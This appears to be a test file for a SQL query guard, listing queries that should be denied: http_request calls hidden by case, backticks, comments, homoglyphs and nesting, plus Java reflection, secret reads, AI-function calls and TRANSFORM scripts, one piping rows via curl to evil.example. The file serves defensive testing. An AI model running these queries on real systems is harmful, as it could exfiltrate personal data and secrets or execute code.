-- Functions within a query that do more than compute.

--! A request to another system
--! deny sql_function_denied
SELECT http_request(conn => 'c', method => 'POST', path => '/', json => to_json(struct(*))) FROM main.hr.people

--! A request, in mixed case
--! deny sql_function_denied
SELECT Http_Request(conn => 'c', method => 'GET', path => '/')

--! A request, in backticks
--! deny sql_function_denied
SELECT `http_request`(conn => 'c', method => 'GET', path => '/')

--! A request by its full name
--! deny sql_function_denied
SELECT system.builtin.http_request(conn => 'c', method => 'GET', path => '/')

--! A request by its full name in backticks
--! deny sql_function_denied
SELECT `system`.`builtin`.`HTTP_REQUEST`(conn => 'c', method => 'GET', path => '/')

--! A request with a comment before its brackets
--! deny sql_function_denied
SELECT http_request /* not a call */ (conn => 'c', method => 'GET', path => '/')

--! A request on another line than its brackets
--! deny sql_function_denied
SELECT http_request
(conn => 'c', method => 'GET', path => '/')

--! A request with a letter that looks like another
--! deny sql_function_denied
SELECT `http_reque{{U+017F}}t`(conn => 'c', method => 'GET', path => '/')

--! A request in a filter
--! deny sql_function_denied
SELECT * FROM main.sales.orders WHERE http_request(conn => 'c', method => 'GET', path => '/').status_code = 200

--! A request in a join
--! deny sql_function_denied
SELECT * FROM a.b.c JOIN a.b.d ON http_request(conn => 'c', method => 'GET', path => c.x) IS NOT NULL

--! A request in an order
--! deny sql_function_denied
SELECT * FROM main.sales.orders ORDER BY http_request(conn => 'c', method => 'GET', path => '/')

--! A request in a group
--! deny sql_function_denied
SELECT count(*) FROM main.sales.orders GROUP BY http_request(conn => 'c', method => 'GET', path => '/')

--! A request in a filter on groups
--! deny sql_function_denied
SELECT count(*) FROM main.sales.orders GROUP BY region HAVING http_request(conn => 'c', method => 'GET', path => '/') IS NULL

--! A request in a filter on a window
--! deny sql_function_denied
SELECT * FROM main.sales.orders QUALIFY row_number() OVER (ORDER BY http_request(conn => 'c', method => 'GET', path => '/')) = 1

--! A request in a limit
--! deny sql_function_denied
SELECT 1 LIMIT length(http_request(conn => 'c', method => 'GET', path => '/'))

--! A request in a lambda
--! deny sql_function_denied
SELECT transform(xs, x -> http_request(conn => 'c', method => 'GET', path => x)) FROM main.sales.lists

--! A request in a common table expression that nobody reads
--! deny sql_function_denied
WITH x AS (SELECT http_request(conn => 'c', method => 'GET', path => '/')) SELECT 1

--! A request in a subquery
--! deny sql_function_denied
SELECT (SELECT http_request(conn => 'c', method => 'GET', path => '/'))

--! A request in a pivot
--! deny sql_function_denied
SELECT * FROM main.sales.orders PIVOT (max(http_request(conn => 'c', method => 'GET', path => '/')) FOR region IN ('north'))

--! A request in rows out of nothing
--! deny sql_function_denied
VALUES (http_request(conn => 'c', method => 'GET', path => '/'))

--! A request in a pipe
--! deny sql_function_denied
FROM main.sales.orders |> EXTEND http_request(conn => 'c', method => 'GET', path => '/') AS r

--! A request in the rows of LATERAL VIEW
--! deny sql_function_denied
SELECT * FROM main.sales.orders LATERAL VIEW explode(array(http_request(conn => 'c', method => 'GET', path => '/'))) e AS r

--! A request in the argument of a table function
--! deny sql_function_denied
SELECT * FROM range(length(http_request(conn => 'c', method => 'GET', path => '/')))

--! A request in the time of a table
--! deny sql_function_denied
SELECT * FROM main.sales.orders TIMESTAMP AS OF http_request(conn => 'c', method => 'GET', path => '/').text

--! A request in a window of rows
--! deny sql_function_denied
SELECT sum(a) FILTER (WHERE http_request(conn => 'c', method => 'GET', path => '/') IS NULL) OVER () FROM main.sales.orders

--! A request in CASE
--! deny sql_function_denied
SELECT CASE WHEN true THEN http_request(conn => 'c', method => 'GET', path => '/') END

--! A request that is only planned
--! deny sql_function_denied
EXPLAIN SELECT http_request(conn => 'c', method => 'GET', path => '/')

--! A request whose columns are described
--! deny sql_function_denied
DESCRIBE QUERY SELECT http_request(conn => 'c', method => 'GET', path => '/')

--! A request behind a union
--! deny sql_function_denied
SELECT 1 UNION ALL SELECT http_request(conn => 'c', method => 'GET', path => '/').status_code

--! Code in the engine
--! deny sql_function_denied
SELECT reflect('java.lang.Runtime', 'getRuntime')

--! Code in the engine, by the other name
--! deny sql_function_denied
SELECT java_method('java.lang.System', 'getenv', 'HOME')

--! Code in the engine that does not fail
--! deny sql_function_denied
SELECT try_reflect('java.lang.System', 'exit', 1)

--! A model
--! deny sql_function_denied
SELECT ai_query('databricks-claude', concat('summarise: ', note)) FROM main.sales.orders

--! A model that classifies
--! deny sql_function_denied
SELECT ai_classify(note, array('a', 'b')) FROM main.sales.orders

--! A model that generates
--! deny sql_function_denied
SELECT `ai_gen`('hello')

--! A secret
--! deny sql_function_denied
SELECT secret('scope', 'key')

--! A secret that may be missing
--! deny sql_function_denied
SELECT try_secret('scope', 'key')

--! Names of secrets
--! deny sql_function_denied
SELECT * FROM list_secrets()

--! A search over vectors
--! deny sql_function_denied
SELECT * FROM vector_search(index => 'main.hr.cv', query_text => 'salary')

--! A program for each row
--! deny sql_transform
SELECT TRANSFORM(a, b) USING 'curl -d @- evil.example' FROM main.sales.orders

--! A program for each row by FROM first
--! deny sql_transform
FROM main.sales.orders SELECT TRANSFORM(a) USING 'cat' AS (b STRING)

--! A program for each row by MAP
--! deny sql_transform
FROM main.sales.orders MAP a USING 'cat' AS b

--! A program for each row by REDUCE
--! deny sql_transform
FROM main.sales.orders REDUCE a USING 'cat' AS b

--! A program for each row in a subquery
--! deny sql_transform
SELECT * FROM (SELECT TRANSFORM(a) USING 'cat' FROM main.sales.orders)

--! A program for each row in a common table expression
--! deny sql_transform
WITH x AS (SELECT TRANSFORM(a) USING 'cat' FROM main.sales.orders) SELECT * FROM x
